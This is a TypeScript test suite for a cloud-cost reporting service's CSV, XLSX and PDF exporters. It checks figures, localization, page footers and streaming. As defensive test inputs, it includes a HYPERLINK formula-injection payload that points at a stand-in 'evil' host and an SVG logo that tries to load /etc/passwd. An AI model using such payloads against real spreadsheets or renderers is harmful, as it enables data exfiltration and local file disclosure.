/**
 * Renders the client and admin reports in every format and language, parses each output back
 * (csv-parse, exceljs, pdf.js) and checks that the three carry the model's numbers, that user
 * text cannot turn into a formula, that accents survive and that every PDF page has its footer.
 */
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import zlib from 'node:zlib';
import ExcelJS from 'exceljs';

import { AppError } from '../../src/lib/errors.js';
import { exportAdminCsv, exportClientCsv } from '../../src/modules/reports/exporters/csv.js';
import { accountLabel, axisFormat } from '../../src/modules/reports/exporters/pdf-charts.js';
import { exportAdminPdf, exportClientPdf } from '../../src/modules/reports/exporters/pdf.js';
import { exportAdminXlsx, exportClientXlsx } from '../../src/modules/reports/exporters/xlsx.js';
import { ReportFormatter } from '../../src/modules/reports/i18n.js';
import { moneyDecimal, neutralizeSpreadsheetText } from '../../src/modules/reports/report.fns.js';
import {
  REPORT_LOCALES,
  type AdminClientRow,
  type ClientReportModel,
  type DailyDetailRow,
  type ReportLocale,
} from '../../src/modules/reports/report.types.js';
import {
  ACCENTED_ACCOUNT_NAME,
  INJECTION_ACCOUNT_NAME,
  INJECTION_SERVICE,
  INJECTION_TAG,
  buildAdminModel,
  buildClientModel,
} from './fixture.js';
import { csvRecords, pdfPages, readAll, sheetRows, workbook } from './parse.js';

/** pdf.js hands no-break spaces back as plain ones; compare with both normalized. */
const norm = (text: string) => text.replace(/[\u00a0\u202f]/g, ' ');

const FORMULA_LEAD = /^[=+\-@\t\r\0]/;

/** Client CSV columns (see the layout in exporters/csv.ts). */
const COL = { section: 0, measure: 1, date: 2, accountId: 4, accountName: 5, service: 7 } as const;
const COL2 = { item: 8, currency: 9, value: 10, unit: 11, note: 12, firstTag: 13 } as const;

function assertNoFormulaText(cells: Iterable<string>, where: string): void {
  for (const cell of cells) {
    assert.doesNotMatch(cell, FORMULA_LEAD, `${where}: "${cell}" would run as a formula`);
  }
}

for (const language of REPORT_LOCALES) {
  describe(`client report (${language})`, () => {
    const model = buildClientModel({ language });
    const fmt = new ReportFormatter(language, model.cover.timeZone);
    const s = fmt.strings;
    let csvText = '';
    let records: string[][] = [];
    let wb: ExcelJS.Workbook;
    let pages: string[] = [];
    const rowsReported: Record<string, number> = {};

    before(async () => {
      const csv = exportClientCsv(buildClientModel({ language }), { delimiter: ';', bom: true });
      csvText = (await readAll(csv.stream)).toString('utf8');
      rowsReported.csv = (await csv.done).rows;
      records = csvRecords(csvText, ';');

      const xlsx = exportClientXlsx(buildClientModel({ language }));
      wb = await workbook(await readAll(xlsx.stream));
      rowsReported.xlsx = (await xlsx.done).rows;

      const pdf = exportClientPdf(buildClientModel({ language }));
      pages = (await pdfPages(await readAll(pdf.stream))).map(norm);
      await pdf.done;
    });

    it('names the files after the client, the period and the language', () => {
      for (const ex of [exportClientCsv(model), exportClientPdf(model), exportClientXlsx(model)]) {
        const name = new RegExp(
          `^finopslatam-senales-andinas-2024-09-${language}\\.(csv|pdf|xlsx)$`,
        );
        assert.match(ex.fileName, name);
        assert.equal(
          ex.contentDisposition,
          `attachment; filename="${ex.fileName}"; filename*=UTF-8''${ex.fileName}`,
        );
        ex.stream.destroy();
      }
    });

    it('CSV: BOM, localized header, one documented layout, every record the same width', () => {
      assert.ok(csvText.startsWith('\ufeff'));
      assert.ok(csvText.includes('\r\n'), 'RFC 4180 records end with CRLF');
      const [header, ...rest] = records;
      assert.equal(header?.[0], s.columns.section);
      assert.equal(header?.[COL2.firstTag], s.columns.tag('centro-de-costo'));
      for (const record of rest) assert.equal(record.length, header?.length);
      assert.equal(rest.length, rowsReported.csv);
    });

    it('CSV: key figures per currency as exact numbers, missing ones empty (never 0)', () => {
      // Ratios carry no currency: the item is the figure's name, the note its currency block.
      const figure = (measure: string, currency: string, unit = currency) =>
        records.filter(
          (r) =>
            r[COL.section] === s.sections.keyFigures &&
            r[COL.measure] === measure &&
            (unit === currency
              ? r[COL2.currency] === currency
              : r[COL2.currency] === '' && r[COL2.item] === measure && r[COL2.note] === currency) &&
            r[COL2.unit] === unit,
        );
      // No percent record anywhere puts a currency code in the item column.
      const codes = new Set(model.keyFigures.map((k) => k.currency));
      for (const r of records.filter((r) => r[COL2.unit] === s.units.percent)) {
        assert.equal(r[COL2.currency], '');
        assert.ok(!codes.has(r[COL2.item]!), r.join('|'));
      }
      for (const k of model.keyFigures) {
        const total = figure(s.figures.totalSpend, k.currency);
        assert.equal(total.length, 1);
        assert.equal(total[0]?.[COL2.value], moneyDecimal(k.totalSpend));
        const forecast = figure(s.figures.forecast, k.currency);
        assert.equal(forecast[0]?.[COL2.value], '');
      }
      const brlLastYear = figure(s.figures.sameMonthLastYear, 'BRL');
      assert.equal(brlLastYear[0]?.[COL2.value], '');
      const usdEsr = figure(s.figures.effectiveSavingsRate, 'USD', s.units.percent);
      assert.equal(usdEsr[0]?.[COL2.value], '18.43');
      const eurEsr = figure(s.figures.effectiveSavingsRate, 'EUR', s.units.percent);
      assert.equal(eurEsr[0]?.[COL2.value], '');
    });

    it('CSV: negative credits stay numbers, injection payloads are neutralized', () => {
      assert.match(csvText, /;-12\.5;/);
      assert.ok(csvText.includes(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`));

      const detail = records.filter((r) => r[COL.section] === s.sections.detail);
      assert.equal(detail.length, (model.dailyDetail as unknown[]).length);
      const credit = detail.find((r) => r[COL2.item] === 'Credit');
      // Detail lines keep every digit (they add up to the total); figures have two decimals.
      assert.equal(credit?.[COL2.value], '-12.5');
      const tagged = detail.find((r) => r[COL2.firstTag]?.includes('HYPERLINK'));
      assert.equal(tagged?.[COL2.firstTag], `'${INJECTION_TAG}`);
      const account = detail.find((r) => r[COL.accountId] === '555000111222');
      assert.equal(account?.[COL.accountName], `'${INJECTION_ACCOUNT_NAME}`);
      const service = records.find((r) => r[COL.service]?.includes('Créditos'));
      assert.equal(service?.[COL.service], `'${INJECTION_SERVICE}`);

      // Every text column; the value column holds numbers only.
      const textCells = records.flatMap((r) => r.filter((_, i) => i !== COL2.value));
      assertNoFormulaText(textCells, 'CSV');
      for (const r of records.slice(1)) assert.match(r[COL2.value] ?? '', /^(-?\d+(\.\d+)?)?$/);
    });

    it('CSV: money has two decimals, percentages no currency', () => {
      const body = records
        .slice(1)
        .filter((r) => r[COL2.value] !== '' && r[COL.section] !== s.sections.detail);
      const percents = body.filter((r) => r[COL2.unit] === s.units.percent);
      const amounts = body.filter((r) => r[COL2.unit] !== s.units.percent && r[COL2.currency]);
      assert.ok(percents.length > 0 && amounts.length > 0);
      for (const r of percents) assert.equal(r[COL2.currency], '', r.join('|'));
      for (const r of amounts) assert.match(r[COL2.value] ?? '', /^-?\d+\.\d{2}$/, r.join('|'));
    });

    it('CSV: accents survive', () => {
      assert.ok(records.some((r) => r[COL.accountName] === ACCENTED_ACCOUNT_NAME));
      assert.ok(csvText.includes('Señales ção €'));
    });

    it('XLSX: the sheets, frozen headers, autofilters and no formula anywhere', () => {
      const names = wb.worksheets.map((ws) => ws.name);
      assert.deepEqual(names, [
        s.sheets.summary,
        s.sheets.trend,
        s.sheets.services,
        s.sheets.accounts,
        s.sheets.daily,
        s.sheets.detail,
        s.sheets.findings,
        s.sheets.commitments,
        s.sheets.movers,
        s.sheets.methodology,
      ]);
      for (const ws of wb.worksheets) {
        assert.equal(ws.views[0]?.state, 'frozen', ws.name);
        assert.ok(ws.autoFilter, `${ws.name} has an autofilter`);
        assert.ok((ws.getColumn(1).width ?? 0) > 0, `${ws.name} has column widths`);
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${ws.name}!${cell.address}`);
            if (typeof cell.value === 'string') {
              assert.doesNotMatch(cell.value, FORMULA_LEAD, `${ws.name}!${cell.address}`);
            }
          }),
        );
      }
    });

    it('XLSX: key figures as numbers with currency formats, missing ones empty', () => {
      const summary = wb.getWorksheet(s.sheets.summary)!;
      const rows = sheetRows(summary);
      assert.deepEqual(rows[0], [s.columns.measure, 'USD', 'BRL', 'EUR']);
      assert.equal(rows[1]?.[0], s.figures.totalSpend);
      model.keyFigures.forEach((k, i) => {
        assert.equal(rows[1]?.[i + 1], Number(k.totalSpend));
        assert.match(summary.getRow(2).getCell(i + 2).numFmt, new RegExp(`\\[\\$${k.currency}\\]`));
      });
      const sameMonthLastYear = rows.findIndex((r) => r[0] === s.figures.sameMonthLastYear);
      assert.equal(rows[sameMonthLastYear]?.[2] ?? null, null, 'BRL has no last year');
      const esr = rows.findIndex((r) => r[0] === s.figures.effectiveSavingsRate);
      assert.equal(rows[esr]?.[1], 0.1843);
      assert.equal(summary.getRow(esr + 1).getCell(2).numFmt, '0.0%');
    });

    it('XLSX: detail keeps credits negative and neutralizes tag values', () => {
      const rows = sheetRows(wb.getWorksheet(s.sheets.detail)!);
      assert.equal(rows.length - 1, (model.dailyDetail as unknown[]).length);
      const credit = rows.find((r) => r[7] === 'Credit');
      assert.equal(credit?.[9], -12.5);
      assert.ok(rows.some((r) => r[10] === `'${INJECTION_TAG}`));
      assert.ok(rows.some((r) => r[3] === ACCENTED_ACCOUNT_NAME));
      assert.ok(rows[1]?.[0] instanceof Date);
    });

    it('the three formats carry the same findings, commitments and movers', () => {
      const findings = sheetRows(wb.getWorksheet(s.sheets.findings)!);
      const text = pages.join('\n');
      for (const f of model.topFindings) {
        const csvRow = records.find(
          (r) =>
            r[COL.section] === s.sections.findings &&
            r[COL2.item] === neutralizeSpreadsheetText(f.title),
        );
        assert.equal(csvRow?.[COL2.value], moneyDecimal(f.monthlySavings), f.id);
        const xlsxRow = findings.find((r) => r[0] === neutralizeSpreadsheetText(f.title));
        assert.equal(xlsxRow?.[7], Number(f.monthlySavings), f.id);
        assert.ok(text.includes(norm(fmt.money(f.monthlySavings, f.currency))), f.id);
      }
      for (const c of model.commitments) {
        assert.ok(text.includes(norm(fmt.money(c.periodCost, c.currency))), c.id);
      }
      const movers = sheetRows(wb.getWorksheet(s.sheets.movers)!);
      for (const m of model.movers) {
        assert.ok(text.includes(norm(fmt.signedMoney(m.change, m.currency))), m.serviceName);
        assert.ok(movers.some((r) => r[1] === m.serviceName && r[5] === Number(m.change)));
      }
      for (const a of model.accounts) {
        assert.ok(text.includes(norm(fmt.money(a.amount, a.currency))), a.accountId);
      }
    });

    it('movers: price + usage + new + removed = change on every row, in all three formats', () => {
      const cents = (v: unknown) => Math.round(Number(v) * 100);

      // XLSX keeps the exact amounts: the parts add up to the change.
      const sheet = sheetRows(wb.getWorksheet(s.sheets.movers)!);
      // Movers are per service: the sheet has no (always empty) account column.
      assert.ok(!sheet[0]?.includes(s.columns.accountId));
      assert.deepEqual(sheet[0]?.slice(6, 10), [
        s.columns.priceEffect,
        s.columns.usageEffect,
        s.columns.newEffect,
        s.columns.removedEffect,
      ]);
      for (const r of sheet.slice(1)) {
        const parts = [r[6], r[7], r[8], r[9]].map((v) => Number(v ?? 0));
        assert.ok(Math.abs(parts.reduce((a, b) => a + b, 0) - Number(r[5])) < 1e-6, String(r[1]));
      }
      assert.ok(sheet.some((r) => r[0] === s.moverKinds.new && Number(r[8]) > 0));
      assert.ok(sheet.some((r) => r[0] === s.moverKinds.removed && Number(r[9]) < 0));

      // CSV: each part is rounded to the cent on its own, so the sum may differ by a cent.
      const csvMovers = records.filter((r) => r[COL.section] === s.sections.movers);
      for (const m of model.movers) {
        const value = (measure: string) =>
          csvMovers.find(
            (r) =>
              r[COL.service] === m.serviceName &&
              r[COL2.currency] === m.currency &&
              r[COL.measure] === measure,
          )?.[COL2.value];
        const parts = [
          s.columns.priceEffect,
          s.columns.usageEffect,
          s.columns.newEffect,
          s.columns.removedEffect,
        ].map((measure) => cents(value(measure)));
        const sum = parts.reduce((a, b) => a + b, 0);
        assert.ok(Math.abs(sum - cents(value(s.columns.change))) <= 1, m.serviceName);
      }

      // PDF: the new or removed effect has its own column, so no row shows only zeros.
      const text = pages.join('\n');
      assert.ok(text.includes(norm(s.columns.newRemovedEffect)));
      for (const m of model.movers.filter((x) => x.kind === 'new' || x.kind === 'removed')) {
        const effect = m.kind === 'new' ? m.newEffect : m.removedEffect;
        const row = `${norm(fmt.signedMoney(m.change, m.currency))} ${norm(
          fmt.signedMoney(m.priceEffect, m.currency),
        )} ${norm(fmt.signedMoney(m.usageEffect, m.currency))} ${norm(
          fmt.signedMoney(effect, m.currency),
        )}`;
        assert.ok(text.includes(row), `${m.serviceName}: ${row}`);
      }
    });

    it('names the providers as a reader does, in all three formats', () => {
      const names = new Set(['AWS', 'Azure', 'Google Cloud', 'OCI']);
      const sheet = sheetRows(wb.getWorksheet(s.sheets.accounts)!).slice(1);
      assert.ok(sheet.length > 0);
      for (const r of sheet) assert.ok(names.has(String(r[0])), String(r[0]));
      const csvAccounts = records.filter((r) => r[COL.section] === s.sections.accounts);
      for (const r of csvAccounts) assert.ok(names.has(r[3]!), r[3]);
      const text = pages.join('\n');
      assert.ok(text.includes('Google Cloud'));
      assert.doesNotMatch(text, /(^|\s)(aws|gcp|azure|oci)(\s|,|$)/);
    });

    it('PDF: key figures as in the model, missing ones as a dash', () => {
      const text = pages.join('\n');
      for (const k of model.keyFigures) {
        assert.ok(text.includes(norm(fmt.money(k.totalSpend, k.currency))), k.currency);
        assert.ok(text.includes(norm(fmt.money(k.potentialMonthlySavings, k.currency))));
      }
      assert.ok(text.includes(`${norm(s.figures.forecast)} —`));
      assert.ok(!text.includes(`${norm(s.figures.forecast)} ${norm(fmt.money('0', 'USD'))}`));
      assert.ok(text.includes(norm(fmt.ratio(0.1843))));
    });

    it('PDF: cover, sections, accents, page numbers and footer on every page', () => {
      assert.ok(pages.length >= 8, `${pages.length} pages`);
      assert.ok(pages[0]?.includes(norm(s.clientReportTitle).split(' ')[0]!));
      assert.ok(pages[0]?.includes('Señales Andinas S.A.'));
      assert.ok(pages[0]?.includes(norm(s.metrics.net_effective_cost)));
      const text = pages.join('\n');
      for (const title of [s.sections.keyFigures, s.sections.findings, s.sections.methodology]) {
        assert.ok(text.includes(norm(title)), title);
      }
      assert.ok(text.includes(ACCENTED_ACCOUNT_NAME));
      const generated = norm(s.footer.generated(fmt.dateTime(model.cover.generatedAt)));
      pages.forEach((page, i) => {
        assert.ok(page.includes(norm(s.footer.page(i + 1, pages.length))), `page ${i + 1} number`);
        assert.ok(page.includes(model.cover.requestId), `page ${i + 1} request id`);
        assert.ok(page.includes(generated), `page ${i + 1} generation time`);
      });
    });
  });
}

describe('admin report', () => {
  for (const language of ['es', 'pt-BR'] as ReportLocale[]) {
    it(`renders and parses back in all three formats (${language})`, async () => {
      const model = buildAdminModel(language);
      const fmt = new ReportFormatter(language, model.cover.timeZone);
      const s = fmt.strings;

      const csv = exportAdminCsv(model);
      const records = csvRecords((await readAll(csv.stream)).toString('utf8'), ',');
      assert.equal(csv.fileName, `finopslatam-admin-2024-09-${language}.csv`);
      const clients = records.find((r) => r[1] === s.platform.clientsTotal);
      assert.equal(clients?.[8], '42');
      const negative = records.find((r) => r[3] === 'comercio-sao-joao' && r[7] === 'BRL');
      assert.equal(negative?.[8], '-12.50');
      assert.ok(records.some((r) => r[2]?.startsWith("'=HYPERLINK")));
      assertNoFormulaText(
        records.flatMap((r) => r.filter((_, i) => i !== 8)),
        'admin CSV',
      );

      const wb = await workbook(await readAll(exportAdminXlsx(buildAdminModel(language)).stream));
      assert.deepEqual(
        wb.worksheets.map((ws) => ws.name),
        [
          s.sheets.summary,
          s.sheets.clients,
          s.sheets.subscriptions,
          s.sheets.security,
          s.sheets.methodology,
        ],
      );
      const clientRows = sheetRows(wb.getWorksheet(s.sheets.clients)!);
      const hostile = (model.clients as AdminClientRow[])[1]!.name;
      assert.ok(clientRows.some((r) => r[0] === `'${hostile}`));
      const spend = clientRows.find((r) => r[1] === 'senales-andinas' && r[5] === 'BRL');
      assert.equal(spend?.[6], 84640.55);
      const summary = sheetRows(wb.getWorksheet(s.sheets.summary)!);
      assert.ok(summary.some((r) => r[0] === s.platform.factRows && r[2] === 18_442_310));

      const pdf = exportAdminPdf(buildAdminModel(language));
      const pages = (await pdfPages(await readAll(pdf.stream))).map(norm);
      const text = pages.join('\n');
      assert.ok(text.includes(norm(fmt.count(18_442_310))));
      assert.ok(text.includes(norm(fmt.money('2841003.1200', 'USD'))));
      assert.ok(text.includes(norm(fmt.money('-12.5000', 'BRL'))));
      assert.ok(text.includes('Comércio Exterior São João ção'));
      assert.ok(text.includes(norm(s.security.lockouts)));
      pages.forEach((page, i) => {
        assert.ok(page.includes(norm(s.footer.page(i + 1, pages.length))));
        assert.ok(page.includes(model.cover.requestId));
      });
    });
  }
});

describe('streaming and failures', () => {
  /** A detail source that counts what was pulled from it, optionally failing part-way. */
  function countingModel(total: number, failAt?: number) {
    const pulled = { rows: 0 };
    const base = buildClientModel({ detailRows: total });
    const rows = base.dailyDetail as Iterable<DailyDetailRow>;
    async function* source(): AsyncGenerator<DailyDetailRow> {
      for (const row of rows) {
        if (failAt !== undefined && pulled.rows === failAt) throw new Error('cursor lost');
        pulled.rows += 1;
        yield row;
      }
    }
    const model: ClientReportModel = { ...base, dailyDetail: source() };
    return { model, pulled };
  }

  it('CSV and XLSX pull the detail only as fast as the reader takes the bytes', async () => {
    for (const render of [exportClientCsv, exportClientXlsx] as const) {
      const { model, pulled } = countingModel(60_000);
      const ex = render(model);
      await new Promise((resolve) => setTimeout(resolve, 400));
      assert.ok(pulled.rows < 60_000, `${render.name} read ${pulled.rows} rows with no reader`);
      await readAll(ex.stream);
      assert.equal(pulled.rows, 60_000);
      assert.ok((await ex.done).rows >= 60_000);
    }
  });

  it('a failing detail source aborts the stream and rejects done', async () => {
    for (const render of [exportClientCsv, exportClientXlsx] as const) {
      const { model } = countingModel(5_000, 1_234);
      const ex = render(model);
      await assert.rejects(readAll(ex.stream), /cursor lost/, render.name);
      await assert.rejects(ex.done, /cursor lost/);
    }
  });

  it('CSV: semicolon with decimal comma for Spanish- and Portuguese-locale Excel', async () => {
    const ex = exportClientCsv(buildClientModel({ language: 'pt-BR' }), {
      delimiter: ';',
      decimalSeparator: ',',
    });
    const text = (await readAll(ex.stream)).toString('utf8');
    assert.ok(!text.startsWith('\ufeff'));
    assert.match(text, /;-12,50;/);
    assert.throws(
      () => exportClientCsv(buildClientModel(), { delimiter: ',', decimalSeparator: ',' }),
      (e: unknown) => e instanceof AppError && e.code === 'validation_failed',
    );
  });

  it('PDF: draws a PNG or SVG client logo, ignoring what an SVG logo tries to load', async () => {
    const logos = [
      { type: 'png' as const, data: tinyPng() },
      {
        type: 'svg' as const,
        data: Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">' +
            '<rect width="120" height="40" fill="#c00"/><text x="8" y="26">Señales</text>' +
            '<image href="/etc/passwd" width="10" height="10"/>' +
            '<image href="file:///etc/hostname" width="10" height="10"/></svg>',
        ),
      },
      { type: 'png' as const, data: Buffer.from('not a png') },
    ];
    for (const logo of logos) {
      const ex = exportClientPdf(buildClientModel({ language: 'en' }), { logo });
      const pages = await pdfPages(await readAll(ex.stream));
      assert.ok(pages[0]?.includes('FinOpsLatam'));
    }
  });
});

/** A valid 2×2 RGB PNG, built here so the test needs no binary fixture. */
function tinyPng(): Buffer {
  const { crc32, deflateSync } = zlib;
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(2, 0);
  header.writeUInt32BE(2, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const pixels = Buffer.from([0, 11, 57, 84, 8, 126, 139, 0, 242, 165, 65, 200, 85, 61]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(pixels)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('a month the reviewer read: no previous data, credits, idle accounts', () => {
  const base = buildClientModel({ language: 'en', detailRows: 20 });
  const fmt = new ReportFormatter('en', base.cover.timeZone);
  const s = fmt.strings;
  const detail = [...(base.dailyDetail as Iterable<DailyDetailRow>)];
  const named = base.accounts.find((a) => a.accountName)!;
  const model: ClientReportModel = {
    ...base,
    // The previous month has no data at all: nothing to compare with, so no movers.
    movers: [],
    moversComparison: {
      current: { from: '2024-09-01', to: '2024-09-30' },
      previous: { from: '2024-08-01', to: '2024-08-31' },
      partial: false,
      previousEmpty: true,
    },
    topFindings: [],
    topServices: [
      ...base.topServices,
      {
        rank: 99,
        serviceName: 'Other',
        category: 'Other',
        currency: 'EUR',
        amount: '-0.15',
        share: -0.15 / 3740.55,
        vsPreviousMonth: { reference: null, change: null, changeRatio: null },
        remainder: true,
      },
    ],
    accounts: [
      ...base.accounts,
      ...['idle-1', 'idle-2'].map((accountId) => ({
        provider: 'aws',
        accountId,
        accountName: null,
        currency: 'USD',
        amount: '0.0000',
        share: 0,
      })),
    ],
    // Facts that carry no name of their own: the accounts table's name fills them.
    dailyDetail: detail.map((r) => ({ ...r, accountId: named.accountId, accountName: null })),
  };

  it('PDF: no previous month, idle accounts counted, the remainder labelled', async () => {
    const text = norm((await pdfPages(await readAll(exportClientPdf(model).stream))).join('\n'));
    assert.ok(text.includes(s.empty.moversNoPrevious));
    assert.ok(!text.includes(s.moverGroups.new));
    // Fixture: one zero account of its own, two added here.
    assert.ok(text.includes(s.charts.accountsWithoutSpend(3)));
    assert.ok(!/\$0\.00 0\.0 ?%/.test(text), 'no $0.00 / 0.0 % account rows');
  });

  it('XLSX: detail names every account; empty sheets say why; unranked remainder', async () => {
    const wb = await workbook(await readAll(exportClientXlsx(model).stream));
    const rows = sheetRows(wb.getWorksheet(s.sheets.detail)!).slice(1);
    assert.ok(rows.length > 0);
    for (const r of rows) assert.equal(r[3], neutralizeSpreadsheetText(named.accountName!));
    assert.equal(sheetRows(wb.getWorksheet(s.sheets.movers)!)[1]?.[0], s.empty.moversNoPrevious);
    assert.equal(sheetRows(wb.getWorksheet(s.sheets.findings)!)[1]?.[0], s.empty.findings);
    const other = sheetRows(wb.getWorksheet(s.sheets.services)!).find(
      (r) => r[1] === s.charts.otherAndCredits,
    );
    assert.ok(other);
    assert.equal(other[0] ?? null, null);
    assert.equal(other[4], -0.15);
  });

  it('CSV: the remainder row is named and unranked', async () => {
    const text = (await readAll(exportClientCsv(model).stream)).toString('utf8');
    const records = csvRecords(text, ',');
    const other = records.filter(
      (r) =>
        r[COL.section] === s.sections.topServices && r[COL.service] === s.charts.otherAndCredits,
    );
    assert.ok(other.length > 0);
    for (const r of other) assert.equal(r[COL2.item], '');
  });
});

describe('chart helpers', () => {
  it('an axis up to 2 keeps a decimal; large ones stay whole', () => {
    assert.equal(axisFormat(2), ',.1~f');
    assert.equal(axisFormat(0.3), ',.2~f');
    assert.equal(axisFormat(1200), ',.0f');
    assert.equal(axisFormat(0), ',.0f');
  });

  it('account bars use the name, else the id’s last segment', () => {
    assert.equal(accountLabel('Atlas Orion', '/subscriptions/abc'), 'Atlas Orion');
    assert.equal(accountLabel(null, '/subscriptions/1f2e-77aa'), '1f2e-77aa');
    assert.equal(accountLabel('123', '123'), '123');
  });
});
